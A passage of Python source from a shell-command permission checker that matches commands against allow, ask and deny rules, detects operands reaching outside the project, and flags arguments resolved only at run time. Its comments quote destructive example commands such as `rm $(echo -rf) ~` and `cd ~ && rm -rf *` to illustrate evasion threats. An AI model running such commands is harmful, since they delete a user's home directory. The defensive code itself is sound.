        shown = " ".join(a if a != _DYNAMIC else "…" for a in argv)
        best: Verdict | None = None
        allowed = False
        asking: list[str] = []
        outside: bool | None = None
        for rule in self._rules_for(program):
            if self.effects and rule.undoable:
                # On a copy, what it does inside the project is judged by its effects; outside (/, ~, /etc …) no
                # copy catches it: there the rule holds as written.
                if outside is None:
                    outside = self._reaches_outside(parsed, moved)
                if not outside:
                    continue
            if rule.outside:
                if outside is None:
                    outside = self._reaches_outside(parsed, moved)
                if not outside:
                    continue
            if rule_matches(rule, argv, parsed):
                verdict = Verdict(rule.action, rule.id, rule.reason, shown)
                allowed = allowed or rule.action == "allow"
            elif (
                rule.action != "allow"
                and parsed.dynamic
                and not (self.effects and rule.boxed)  # on a copy, in the box: judged by what it does
                and rule_matches(rule, argv, parsed, wildcard=True)
            ):
                # Threat: `rm $(echo -rf) ~`, `F=-rf; rm $F ~` with F unknown: an argument only run time knows
                # could make this rule match. Undecidable: asked (or denied), never allowed.
                verdict = Verdict(
                    self.policy.undecidable,
                    f"undecidable:{rule.id}",
                    f"An argument only known at run time could make rule '{rule.id}' apply: {rule.reason}",
                    shown,
                )
            else:
                continue
            if verdict.action == "ask":
                asking.append(str(verdict.rule))
            if best is None or _SEVERITY[verdict.action] > _SEVERITY[best.action]:
                best = verdict
        if best is not None and best.action == "ask":
            best = dataclasses.replace(best, asking=tuple(asking))
        if self.policy.mode == "allowlist" and not allowed:
            if best is not None and best.action == "deny":
                return best
            return Verdict(
                "deny",
                "not-in-allowlist",
                f"{program!r} (used this way) is not allowed by the allow-list policy.",
                shown,
            )
        return best if best is not None else Verdict("allow", None, "no rule matched", text)

    def _rules_for(self, program: str) -> list[Rule]:
        """The rules whose program globs match ``program``, in policy order (looked up once per name)."""
        found = self._by_program.get(program)
        if found is None:
            if len(self._by_program) > 4096:
                self._by_program.clear()
            found = self._by_program[program] = [r for r in self._program_rules if _glob(program, r.programs)]
        return found

    def _reaches_outside(self, parsed: Args, moved: bool = False) -> bool:
        """Does a static operand (or a directory option: git -C, --work-tree) name a place outside the project (the
        roots), other than the box's own /tmp and the user's caches? ``moved``: the line changed directory to a
        place outside first (`cd ~ && rm -rf *`), so relative operands are there too."""
        where = [v for option in _DIRECTORY_OPTIONS for v in parsed.values_of(option)]
        for arg in [*parsed.positionals, *where]:
            if arg == _DYNAMIC:
                continue
            path = normalize_path(arg.partition("=")[2] if re.match(r"-{0,2}[A-Za-z_][\w-]*=", arg) else arg)
            if path == "~" or path.startswith("~/"):
                if not self.home:
                    return True
                path = self.home + path[1:]
            if path == ".." or path.startswith(("../", "~-", "~+/..")):
                return True  # ~- is the previous directory: anywhere
            if moved and not path.startswith("/"):
                return True
            if (
                path.startswith("/")
                and not within_any(path, [p.rstrip("/") for p in _BOXED_PRIVATE])
                and not within_any(path, self.roots)
                and not (self.home and any(within(path, posixpath.join(self.home, c)) for c in _CACHES))
            ):
                return True
        return False

    def _finding(self, finding: Finding) -> Verdict:
        rule = self._detect.get(finding.kind)
        if rule is not None and not (self.effects and rule.undoable):
            return Verdict(rule.action, rule.id, f"{rule.reason} ({finding.detail})", finding.detail)
        if self.effects and finding.kind in EFFECT_FINDINGS:
            # Where a redirect writes is known only at run time; what it wrote is judged afterwards.
            return Verdict("allow", None, f"{finding.detail}: judged by its effects", finding.detail)
        if finding.kind in INFORMATIONAL:
            return Verdict("allow", None, finding.detail, finding.detail)
        return Verdict(
            self.policy.undecidable,
            f"undecidable:{finding.kind}",
            f"Cannot be decided before running: {finding.detail}.",
            finding.detail,
        )
